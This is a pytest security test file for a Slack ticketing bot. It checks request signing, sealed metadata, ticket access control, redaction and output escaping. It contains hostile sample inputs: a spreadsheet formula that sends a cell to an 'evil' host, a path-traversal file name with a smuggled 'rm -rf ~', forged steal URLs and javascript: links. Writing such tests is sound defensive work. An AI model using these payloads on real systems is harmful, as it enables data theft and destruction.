"""Security, as an outsider and as a workspace member would try it, over loopback: nothing runs
before a request is verified, nothing handed out is trusted unsealed, nobody reads a ticket
that is not theirs, and no secret leaves the process."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from aiohttp import web

from bot.cli import check_command
from bot.domain.errors import ConfigError
from bot.domain.records import LinkRow
from bot.links_cli import run_links, safe_cell, unsafe_cell
from bot.logs import setup_logging
from bot.settings import load_settings
from bot.slack.files import safe_file_name
from bot.slack.views.text import INVISIBLE, escape, link, strip_invisible_json
from tests.conftest import BotFactory, RunningBot, base_env, hostup_table
from tests.fakes.hostup import FakeHostUp
from tests.fakes.server import FakeServer
from tests.fakes.slack_api import TEAM, FakeSlack
from tests.flows import modal_text, open_form
from tests.slack_driver import shortcut_payload, sign

FORM = "application/x-www-form-urlencoded"
FILLED = {"department": "vps", "subject": "db1 unreachable", "description": "Ping fails."}


class CatchAll(FakeServer):
    """Any request to any path, recorded: where a forged response_url would point."""

    def routes(self, app: web.Application) -> None:
        app.router.add_route("*", "/{tail:.*}", self._any)

    async def _any(self, request: web.Request) -> web.Response:
        await self.record(request)
        return web.Response(text="ok")


@pytest.fixture
async def catch_all() -> AsyncIterator[CatchAll]:
    fake = CatchAll()
    await fake.start()
    yield fake
    await fake.stop()


@pytest.fixture
def bot_log() -> Iterator[io.StringIO]:
    """The bot's own log output (as ``ticketbot run`` sets it up), restored afterwards."""
    root = logging.getLogger()
    saved = (root.handlers[:], root.level)
    out = io.StringIO()
    yield out
    root.handlers[:], _ = saved
    root.setLevel(saved[1])


def log_to(bot: RunningBot, out: io.StringIO) -> None:
    setup_logging("json", redactor=bot.deps.redactor, stream=out)


def submission_body(view: dict[str, Any], user: str, response_url: str) -> bytes:
    payload = {
        "type": "view_submission",
        "team": {"id": TEAM},
        "user": {"id": user, "name": user},
        "user_id": user,
        "response_url": response_url,
        "view": view,
    }
    return urlencode({"payload": json.dumps(payload)}).encode()


# --- 1, 2, 6: verify first ---------------------------------------------------------------------

BAD_TIMESTAMPS = ["abc", "", "1e9", "+1700000000", "-1", "1700000000.5", "0x6553f100", "9" * 40]


async def test_an_unverifiable_request_reaches_nothing_and_sends_nothing(
    hostup_bot: RunningBot, slack: FakeSlack, catch_all: CatchAll, bot_log: io.StringIO
) -> None:
    """Finding 1: a non-numeric timestamp made bolt's check raise, and the error handler then
    POSTed to the body's response_url, DMed its user_id and updated its view.id."""
    log_to(hostup_bot, bot_log)
    view = {
        "id": "V0VICTIM",
        "callback_id": "ticket_modal",
        "private_metadata": json.dumps({"response_url": f"{catch_all.url}/meta"}),
        "state": {"values": {}},
    }
    body = submission_body(view, "UANA", f"{catch_all.url}/hook")
    before = len(slack.calls)
    statuses = []
    for n in range(200):
        stamp = BAD_TIMESTAMPS[n % len(BAD_TIMESTAMPS)]
        headers = {"Content-Type": FORM, "X-Slack-Request-Timestamp": stamp}
        if n % 3:
            headers["X-Slack-Signature"] = sign(body, int(time.time()))
        response = await hostup_bot.driver.http.post(
            f"{hostup_bot.url}/slack/events", content=body, headers=headers
        )
        statuses.append((response.status_code, response.content))
    assert statuses == [(401, b"")] * 200
    assert hostup_bot.deps.jobs.idle
    assert slack.calls[before:] == []
    assert catch_all.requests == []
    assert "Traceback" not in bot_log.getvalue() and '"level": "error"' not in bot_log.getvalue()


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"{", "application/json"),
        (b"[1, 2, 3]", "application/json"),
        (b'"just a string"', "application/json"),
        (b"\xff\xfe\x00garbage", FORM),
        (b"[" * 100_000 + b"]" * 100_000, "application/json"),
        (b"payload=%7B%22type%22", FORM),
        (b"payload=%5B1%5D", FORM),
        (b"", FORM),
    ],
    ids=[
        "bad-json",
        "json-list",
        "json-string",
        "not-utf8",
        "deep",
        "bad-payload",
        "list-payload",
        "empty",
    ],
)
async def test_malformed_bodies_are_401_unsigned_and_400_signed(
    hostup_bot: RunningBot, bot_log: io.StringIO, body: bytes, content_type: str
) -> None:
    """Finding 2: malformed bodies were parsed before the check, 500 and a traceback each."""
    log_to(hostup_bot, bot_log)
    driver = hostup_bot.driver
    unsigned = await driver.send(body, content_type, signature="v0=" + "0" * 64)
    assert (unsigned.status_code, unsigned.content) == (401, b"")
    signed = await driver.send(body, content_type)
    assert signed.status_code == 400
    lines = bot_log.getvalue().splitlines()
    assert len(lines) == 1 and "does not parse" in lines[0]
    assert "Traceback" not in bot_log.getvalue()


async def test_a_refused_request_is_not_logged_with_its_body(
    hostup_bot: RunningBot, bot_log: io.StringIO
) -> None:
    """Finding 6: an invalid signature was logged with the request body (message text)."""
    log_to(hostup_bot, bot_log)
    body = urlencode({"command": "/ticket", "text": "the CFO's salary is 1,234,567"}).encode()
    response = await hostup_bot.driver.send(body, FORM, signature="v0=" + "1" * 64)
    assert response.status_code == 401
    assert "salary" not in bot_log.getvalue()


async def test_answers_go_only_to_slacks_response_urls(
    hostup_bot: RunningBot, slack: FakeSlack, catch_all: CatchAll
) -> None:
    """A signed payload's response_url is still data: the bot posts only to Slack's hosts."""
    form = {
        "team_id": TEAM,
        "channel_id": "C0GENERAL",
        "user_id": "UANA",
        "user_name": "ana",
        "command": "/ticket",
        "text": "help",
        "response_url": f"{catch_all.url}/steal",
        "trigger_id": slack.trigger(),
    }
    await hostup_bot.driver.send(urlencode(form).encode(), FORM)
    dm = await slack.wait_for("chat.postMessage", channel="UANA")
    assert "/ticket" in dm[0]["text"]
    assert catch_all.requests == []


# --- 8: sealed metadata, recorded openers -------------------------------------------------------


async def test_tampered_foreign_and_unknown_modals_are_refused(
    hostup_bot: RunningBot, hostup: FakeHostUp, slack: FakeSlack
) -> None:
    """Finding 8: private_metadata was trusted as given, the submitter was not compared with
    who opened the modal, and a view id the bot never issued still filed a ticket."""
    slack.add_user("UBOB", "bob", "Bob B", "bob@example.com")
    view_id = await open_form(hostup_bot)
    view = slack.view(view_id)
    sealed = view["private_metadata"]
    mac, text = sealed.split(".", 1)
    tampered = json.dumps({**json.loads(text), "channel_id": "C0ATTACKER"})
    cases = {
        "tampered": ({**view, "private_metadata": f"{mac}.{tampered}"}, "UANA"),
        "unsealed": ({**view, "private_metadata": text}, "UANA"),
        "someone else's": (view, "UBOB"),
        "never opened": ({**view, "id": "V0FORGED"}, "UANA"),
    }
    for name, (forged, user) in cases.items():
        response = await hostup_bot.driver.submit(view_id, FILLED, user=user, view=forged)
        answer = response.json()
        assert answer["response_action"] == "update", name
        assert "could not be verified" in modal_text(answer["view"]), name
    assert not hostup.tickets
    response = await hostup_bot.driver.submit(view_id, FILLED)  # the real one still files
    assert "Filing" in modal_text(response.json()["view"])
    await slack.wait_for("chat.postMessage")
    assert len(hostup.tickets) == 1


async def test_the_edit_and_retry_button_value_is_sealed(
    hostup_bot: RunningBot, slack: FakeSlack
) -> None:
    """A button value that names a submission is refused unless the bot sealed it."""
    payload = {
        "type": "block_actions",
        "team": {"id": TEAM},
        "user": {"id": "UANA", "name": "ana"},
        "trigger_id": slack.trigger(),
        "channel": {"id": "C0GENERAL"},
        "container": {"type": "message", "channel_id": "C0GENERAL"},
        "actions": [{"action_id": "edit_retry", "block_id": "retry", "value": "1"}],
    }
    await hostup_bot.driver.interact(payload)
    dm = await slack.wait_for("chat.postMessage", channel="UANA")
    assert "could not be verified" in dm[0]["text"]
    assert not slack.calls_to("views.open")


# --- 3: who may read a ticket -------------------------------------------------------------------


async def test_ticket_status_only_for_filer_channel_members_and_admins(
    hostup_bot: RunningBot, slack: FakeSlack
) -> None:
    """Finding 3: any member could read any ticket's subject; numbers are sequential."""
    for uid in ("UBOB", "UCAT", "UEVE"):
        slack.add_user(uid, uid.lower(), uid, None)
    slack.add_channel("C0PRIV", "secret-project", private=True, members={"UBOT", "UBOB", "UCAT"})
    await hostup_bot.driver.command("", user="UBOB", channel="C0PRIV")
    view_id = await slack.wait_for_view("field:subject")
    await hostup_bot.driver.submit(view_id, {**FILLED, "subject": "Layoffs list"}, user="UBOB")
    await slack.wait_for("chat.postMessage", channel="C0PRIV")

    async def status(user: str) -> str:
        before = len(slack.responses)
        await hostup_bot.driver.command("status 10001", user=user, channel="C0GENERAL")
        return str((await slack.wait_for_response(before + 1))["text"])

    assert status_hidden(await status("UEVE"))
    for reader in ("UBOB", "UCAT", "UANA"):  # the filer, a channel member, an admin
        assert "Layoffs list" in await status(reader), reader
    slack.scopes.discard("groups:read")  # members unreadable: fail closed
    hostup_bot.deps.access._channels.clear()
    assert status_hidden(await status("UCAT"))


def status_hidden(text: str) -> bool:
    return "No ticket #10001 that you can see" in text and "Layoffs" not in text


# --- 4: exports ----------------------------------------------------------------------------------


async def test_links_export_cannot_run_formulas_and_imports_back(hostup_bot: RunningBot) -> None:
    """Finding 4: ids beginning with = + - @ were written raw (formula injection)."""
    nasty = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\tx", "plain"]
    await hostup_bot.deps.store.links.import_links(
        team_id=TEAM,
        rows=[LinkRow(f"U{n}", "hostup", value) for n, value in enumerate(nasty)],
        source="import",
        actor="@admin",
    )
    out = io.StringIO()
    await run_links(hostup_bot.deps, "export", None, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [row[2] for row in rows] == [safe_cell(value) for value in nasty]
    assert [unsafe_cell(row[2]) for row in rows] == nasty
    assert {row[4] for row in rows} == {"'@admin"}
    assert unsafe_cell("'not a formula") == "'not a formula"


# --- 5: redaction --------------------------------------------------------------------------------

LEAKY_KEY = "hu-secret-5be1d6c0ffee"


async def test_a_provider_echoing_the_key_reaches_no_slack_text_log_or_cli(
    make_bot: BotFactory,
    hostup: FakeHostUp,
    slack: FakeSlack,
    bot_log: io.StringIO,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Finding 5: a provider error body quoting the API key was copied into admin Slack text,
    ``ticketbot check`` output and the log."""
    hostup.echo_keys = True
    slack.add_channel("C0ADMIN", "ticketbot-admin", members={"UBOT"})
    bot = await make_bot(
        hostup_table(hostup),
        env={"HOSTUP_API_KEY": LEAKY_KEY},
        options='admins = ["UANA"]\nadmin_channel = "C0ADMIN"',
    )
    log_to(bot, bot_log)
    await bot.driver.command("")
    await slack.until(lambda: slack.channels["C0ADMIN"].messages, "the admin alert")
    await slack.wait_for("views.update")
    sent = json.dumps([call.args for call in slack.calls])
    assert LEAKY_KEY not in sent, sent[sent.find(LEAKY_KEY) - 300 :][:400]
    assert "[redacted]" in sent
    assert LEAKY_KEY not in bot_log.getvalue()
    assert await check_command(bot.deps.settings) == 1
    printed = capsys.readouterr().out
    assert "HostUp" in printed and LEAKY_KEY not in printed


def test_a_secret_pasted_into_the_config_is_never_echoed(tmp_path: Any, slack: FakeSlack) -> None:
    (tmp_path / "ticketbot.toml").write_text(
        '[providers.hostup]\nkind = "hostup"\nbase_url = "https://x.test/api/v2"\n'
        f'api_key_env = "{LEAKY_KEY}"\n',
        encoding="utf-8",
    )
    with pytest.raises(ConfigError) as caught:
        load_settings(base_env(tmp_path, slack))
    assert LEAKY_KEY not in caught.value.message
    assert (
        "api_key_env" in caught.value.message and "name of an environment" in caught.value.message
    )


def test_an_empty_variable_is_called_empty(tmp_path: Any, slack: FakeSlack) -> None:
    (tmp_path / "ticketbot.toml").write_text(
        '[providers.hostup]\nkind = "hostup"\nbase_url = "https://x.test/api/v2"\n'
        'api_key_env = "HOSTUP_API_KEY"\n',
        encoding="utf-8",
    )
    with pytest.raises(ConfigError) as caught:
        load_settings({**base_env(tmp_path, slack), "HOSTUP_API_KEY": ""})
    assert "HOSTUP_API_KEY is empty" in caught.value.message


# --- 7: escaping at every boundary ---------------------------------------------------------------


def test_file_names_are_reduced_to_a_safe_base_name() -> None:
    assert safe_file_name("../../../../etc/cron.d/evil; rm -rf ~.txt", "F1") == (
        "evil_ rm -rf _.txt"
    )
    assert safe_file_name("..\\..\\windows\\system32\\x.dll", "F1") == "x.dll"
    assert safe_file_name("...", "F1") == "F1"
    assert safe_file_name("a\u202egnp.exe", "F1") == "agnp.exe"
    assert len(safe_file_name("x" * 300 + ".log", "F1")) == 100


def test_links_and_text_cannot_carry_markup_or_hidden_characters() -> None:
    assert link("https://x.test/t/1|<!channel>", "T #1") == "T #1"
    assert link("javascript:alert(1)", "T") == "T"
    assert link("https://x.test/?a=1&b=2", "<b>") == "<https://x.test/?a=1&amp;b=2|&lt;b&gt;>"
    assert escape("pay\u202eyap \u200bnow\ufeff") == "payyap now"


@pytest.mark.parametrize("hidden", sorted(INVISIBLE), ids=lambda c: f"U+{c:04X}")
def test_every_hidden_character_leaves_a_body_raw_or_escaped_and_nothing_else_does(
    hidden: int,
) -> None:
    """The middleware's quick check (nothing to strip: the body is passed on as it is) must
    never miss one of them, and must not parse a body for a dash or an ellipsis."""
    view = {"title": "Filing… — done", "blocks": [{"text": f"pay{chr(hidden)}now"}]}
    for body in (json.dumps(view), json.dumps(view, ensure_ascii=False)):
        stripped = strip_invisible_json(body)
        assert stripped is not None and json.loads(stripped)["blocks"][0]["text"] == "paynow"
    plain = {"title": "Filing… — done • ’"}
    assert strip_invisible_json(json.dumps(plain)) is None
    assert strip_invisible_json(json.dumps(plain, ensure_ascii=False)) is None


async def test_hostile_file_names_ids_and_text_are_made_safe_on_the_way_out(
    make_bot: BotFactory, hostup: FakeHostUp, slack: FakeSlack
) -> None:
    """Finding 7: a file name went verbatim into the multipart upload, a provider id
    ``tkt|<!channel>`` went raw into ``<url|label>``, bidi overrides reached the card."""
    bot = await make_bot(hostup_table(hostup))

    def hostile_id(answer: Any) -> Any:
        if isinstance(answer, dict) and "subject" in answer and "number" in answer:
            return {**answer, "id": "tkt|<!channel>"}
        return answer

    hostup.mangle = hostile_id
    evil = slack.add_file("F0EVIL", "../../../../etc/cron.d/evil; rm -rf ~.txt", b"log\n")
    message = {
        "type": "message",
        "user": "UANA",
        "ts": "1700000000.000100",
        "text": "disk \u202efull",
        "files": [evil],
    }
    await bot.driver.interact(shortcut_payload(slack, message))
    view_id = await slack.wait_for_view("field:files")
    await bot.driver.submit(
        view_id, {**FILLED, "subject": "pay\u202eyap \u200bnow"}, view=slack.view(view_id)
    )
    card = (await slack.wait_for("chat.postMessage"))[0]
    upload = await slack.until(
        lambda: [r for r in hostup.requests if r.path.endswith("/attachments")], "the upload"
    )
    assert upload[0].body["file"]["filename"] == "evil_ rm -rf _.txt"
    shown = json.dumps([card["text"], card["blocks"]], ensure_ascii=False)
    assert "<!channel>" not in shown and "\u202e" not in shown and "\u200b" not in shown
    assert "payyap now" in card["text"]


async def test_the_duplicate_notice_names_no_ticket_the_user_cannot_see(
    hostup_bot: RunningBot, slack: FakeSlack
) -> None:
    """The same alert in two channels: the notice "already filed as #N" is a read too."""
    alert = json.loads(
        (Path(__file__).parent / "payloads" / "alertmanager.json").read_text(encoding="utf-8")
    )
    slack.add_user("UBOB", "bob", "Bob B", None)
    slack.add_user("UEVE", "eve", "Eve E", None)
    slack.add_channel("C0PRIV", "ops-private", private=True, members={"UBOT", "UBOB"})
    slack.channels["C0GENERAL"].members.add("UEVE")
    payload = shortcut_payload(slack, alert, channel="C0PRIV", user="UBOB")
    await hostup_bot.driver.interact(payload)
    first = await slack.wait_for_view("field:subject")
    await hostup_bot.driver.submit(first, {"department": "vps"}, user="UBOB")
    await slack.wait_for_text(first, "#10001")
    again = {**alert, "ts": "1732359999.000100"}
    await hostup_bot.driver.interact(shortcut_payload(slack, again, user="UEVE"))
    opened = await slack.wait_for("views.open", count=2)
    assert "Already filed" not in json.dumps(opened[-1]["view"])


async def test_every_post_loses_hidden_characters_whatever_built_it(
    hostup_bot: RunningBot, slack: FakeSlack
) -> None:
    """Issue #27: U+202E and U+200B from an alert still reached two posts whose text did not
    go through ``escape``. Now the Slack session strips them from every body (the sealed
    ``private_metadata`` and ``value`` aside), so a path that forgets cannot leak them."""
    hidden = "disk \u202efull\u200b on db-1"
    await hostup_bot.deps.slack.chat_postMessage(
        channel="C0GENERAL",
        text=hidden,
        blocks=[{"type": "header", "text": {"type": "plain_text", "text": hidden}}],
    )
    response_url = slack.response_url()
    assert await hostup_bot.deps.responses.send(response_url, text=hidden)
    sent = json.dumps(
        [slack.calls_to("chat.postMessage")[-1], slack.responses[-1]], ensure_ascii=False
    )
    assert "disk full on db-1" in sent
    assert "\u202e" not in sent and "\u200b" not in sent
